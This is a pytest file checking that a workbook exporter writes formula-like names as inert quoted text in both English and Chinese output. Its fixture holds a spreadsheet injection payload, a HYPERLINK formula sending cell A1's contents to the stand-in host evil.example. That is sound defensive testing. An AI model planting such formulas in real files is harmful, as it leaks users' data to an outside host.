"""Every text cell of the meeting workbook's Scorecard sheet and of the entry template's Entry
sheet that begins like a formula is inert text with Excel's quote prefix, as on the Data sheet:
a string cell (data_type 's', never 'f') that editing in Excel or LibreOffice keeps as text."""
from __future__ import annotations

import openpyxl
import pytest
from sqlalchemy import update

from core import schema
from core.excel.export import ExportOptions, export_workbook
from core.excel.template import write_template

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def hostile(store):
    """Indicator, area and category names and a unit typed as formulas."""
    with store.write() as conn:
        conn.execute(update(schema.indicators)
                     .where(schema.indicators.c.code == "WATER.STATE_SECTIONS_EXCELLENT")
                     .values(name_en=LINK, name_zh=LINK, unit="-pct", unit_zh="@pct"))
        conn.execute(update(schema.areas).where(schema.areas.c.code == "chongqing")
                     .values(name_en="+Chongqing", name_zh="=重庆"))
        conn.execute(update(schema.categories).where(schema.categories.c.code == "water")
                     .values(name_en="@water", name_zh="-水"))
    return store


def _formula_like(ws) -> list:
    return [c for row in ws.iter_rows() for c in row
            if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@")]


def _assert_inert(ws, expected: set[str]) -> None:
    cells = _formula_like(ws)
    assert expected <= {c.value.split("\n")[0] for c in cells}, ws.title
    bad = [(c.coordinate, c.value, c.data_type, c.quotePrefix) for c in cells
           if c.data_type != "s" or not c.quotePrefix]
    assert not bad, (ws.title, bad)


@pytest.mark.parametrize("lang", ["en", "zh_CN"])
def test_scorecard_sheet_text_is_inert(hostile, tmp_path, lang):
    out = tmp_path / "meeting.xlsx"
    export_workbook(hostile, out, ExportOptions(lang=lang))
    ws = openpyxl.load_workbook(out).worksheets[0]
    zh = lang == "zh_CN"
    _assert_inert(ws, {LINK, "=重庆" if zh else "+Chongqing", "-水" if zh else "@water",
                       "@pct" if zh else "-pct"})
    # numbers are untouched: a negative gap is still a number
    assert any(isinstance(c.value, float) and c.value < 0 for row in ws.iter_rows(min_row=7)
               for c in row)


@pytest.mark.parametrize("lang", ["en", "zh_CN"])
def test_entry_sheet_text_is_inert(hostile, tmp_path, lang):
    out = tmp_path / "entry.xlsx"
    write_template(hostile, out, "2025H1", lang=lang)
    ws = openpyxl.load_workbook(out).worksheets[0]
    zh = lang == "zh_CN"
    _assert_inert(ws, {LINK, "=重庆" if zh else "+Chongqing", "@pct" if zh else "-pct"})
